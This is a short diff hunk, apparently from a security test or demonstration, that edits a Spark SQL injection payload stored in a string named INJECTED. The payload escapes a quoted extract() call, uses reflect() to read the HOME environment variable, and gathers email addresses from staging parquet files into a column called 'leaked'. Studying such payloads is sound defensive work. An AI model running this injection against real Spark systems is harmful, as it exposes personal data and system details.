@@ -47,7 +47,7 @@ INJECTED = """
 select extract('year from current_date()) as a,
   reflect(''java.lang.System'',''getenv'',''HOME'') as u,
   (select concat_ws('','',collect_list(email))
-     from parquet.`HOME/objects/*/GENERATION/staging/*/*/*.parquet`) as leaked,
+     from parquet.`HOME/objects/o/*/*/GENERATION/staging/*/*/*.parquet`) as leaked,
   extract(year' from current_date) as z from shop.orders limit 1
 """
 """Each part of it ran on Spark, when what was written for Spark was not looked at again."""
